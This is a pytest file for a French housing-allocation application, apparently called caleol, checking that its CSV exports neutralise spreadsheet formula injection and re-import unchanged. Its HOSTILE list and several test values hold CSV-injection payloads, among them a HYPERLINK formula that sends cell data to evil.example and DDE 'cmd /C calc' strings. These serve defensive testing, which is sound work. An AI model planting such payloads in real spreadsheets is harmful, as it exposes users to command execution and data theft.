"""CSV injection (OWASP; issue 16, finding 4): what caleol exports never runs in Excel,
and an exported file re-imports to the very same values."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from db.factories import decide_all, make_session_with_agenda
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine
from sqlmodel import Session, select

from caleol.db.engine import session_scope
from caleol.db.models import Decision, Demande, Dwelling
from caleol.services.excel_csv import FORMULA_STARTS, neutralise, restore
from caleol.services.exports import export_decisions, export_demandes, export_dwellings
from caleol.services.imports import import_demandes, import_dwellings
from caleol.services.reports.csv_export import csv_text
from tests.services.import_fixtures import TODAY, csv_bytes, with_references
from tests.services.test_imports import DEMANDES, DWELLINGS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=déjà une apostrophe",
    "''@deux",
]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def _runs(cell: str) -> bool:
    """What a spreadsheet takes for a formula: the cell's first character."""
    return cell.startswith(FORMULA_STARTS)


# --- the rule -----------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "exported"), [
    ("=1+1", "'=1+1"),
    ("+cmd", "'+cmd"),
    ("-cmd", "'-cmd"),
    ("@cmd", "'@cmd"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("'=x", "''=x"),  # one more apostrophe, taken back off on import
    ("-12,50", "-12,50"),  # a number stays a number
    ("-3", "-3"),
    ("'abc", "'abc"),  # an apostrophe before harmless text: nothing to add or remove
    ("Dupont-Martin", "Dupont-Martin"),
    ("", ""),
])
def test_neutralise_worked_cases(value: str, exported: str) -> None:
    assert neutralise(value) == exported
    assert restore(exported) == value


@given(st.text())
def test_restore_gives_back_what_neutralise_was_given(value: str) -> None:
    exported = neutralise(value)
    assert restore(exported) == value
    assert not _runs(exported) or re.fullmatch(r"-[0-9]+(,[0-9]+)?", exported)


# --- the exports ----------------------------------------------------------------------------


@pytest.fixture
def db(engine: Engine) -> Iterator[Engine]:
    yield with_references(engine)


def _set(engine: Engine, model: type, **values: str) -> None:
    with session_scope(engine) as s:
        row = s.exec(select(model)).first()
        for name, value in values.items():
            setattr(row, name, value)


def test_demandes_export_runs_nothing_and_reimports_the_same_values(db: Engine,
                                                                    tmp_path: Path) -> None:
    import_demandes(db, csv_bytes(DEMANDES), today=TODAY)
    _set(db, Demande, applicant_surname=HOSTILE[0][:100], applicant_first_names="+Jean",
         address="@rue", notes=HOSTILE[2], city="-Metz")
    with Session(db) as s:
        before = s.exec(select(Demande)).one().model_dump()
    path = tmp_path / "demandes.csv"
    export_demandes(db, path)
    rows = _cells(path)
    assert not any(_runs(cell) for row in rows for cell in row), rows[1]
    assert "'+Jean" in rows[1] and "'@rue" in rows[1]
    report = import_demandes(db, path, today=TODAY)
    assert (report.unchanged, report.updated) == (1, 0)
    with Session(db) as s:
        after = s.exec(select(Demande)).one().model_dump()
    assert after == before


def test_dwellings_export_runs_nothing_and_reimports_the_same_values(db: Engine,
                                                                     tmp_path: Path) -> None:
    import_dwellings(db, csv_bytes(DWELLINGS), today=TODAY)
    _set(db, Dwelling, programme="=1+1", address="@SUM(A1)", rpls_id="-1+2")
    with Session(db) as s:
        before = {d.reference: d.model_dump() for d in s.exec(select(Dwelling))}
    path = tmp_path / "logements.csv"
    export_dwellings(db, path)
    rows = _cells(path)
    assert not any(_runs(cell) for row in rows for cell in row)
    report = import_dwellings(db, path, today=TODAY)
    assert (report.unchanged, report.updated) == (2, 0)
    with Session(db) as s:
        after = {d.reference: d.model_dump() for d in s.exec(select(Dwelling))}
    assert after == before


def test_decisions_export_runs_nothing(engine: Engine, tmp_path: Path) -> None:
    with session_scope(engine) as s:
        sitting = make_session_with_agenda(s, dwellings=1, candidates=1,
                                           date=date(2026, 3, 10))
        decide_all(s, sitting, kind="non_attribution")
        decision = s.exec(select(Decision)).one()
        decision.reason_text = "=cmd|' /C calc'!A0"
        decision.condition = "@x"
        s.flush()
        sitting.status = "closed"
    path = tmp_path / "decisions.csv"
    assert export_decisions(engine, path, date(2026, 1, 1), date(2026, 12, 31)) == 1
    rows = _cells(path)
    assert not any(_runs(cell) for row in rows for cell in row)
    assert "'=cmd|' /C calc'!A0" in rows[1] and "'@x" in rows[1]


def test_report_csv_cells_are_neutralised_numbers_are_not() -> None:
    text = csv_text(["Territoire", "Écart"], [["=EPCI", Decimal("-12.5")], ["@x", -3]])
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1:] == [["'=EPCI", "-12,50"], ["'@x", "-3"]]


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(notes=st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x00")
    | st.sampled_from(["=", "+", "-", "@", "'", "\t"]),
    max_size=40).map(str.strip))
def test_any_note_survives_an_export_and_a_reimport(db: Engine, tmp_path: Path,
                                                    notes: str) -> None:
    import_demandes(db, csv_bytes(DEMANDES), today=TODAY)  # created once, then unchanged
    _set(db, Demande, notes=notes)
    path = tmp_path / "demandes.csv"
    export_demandes(db, path)
    report = import_demandes(db, path, today=TODAY)
    assert report.unchanged == 1, notes
    with Session(db) as s:
        assert s.exec(select(Demande.notes)).one() == notes
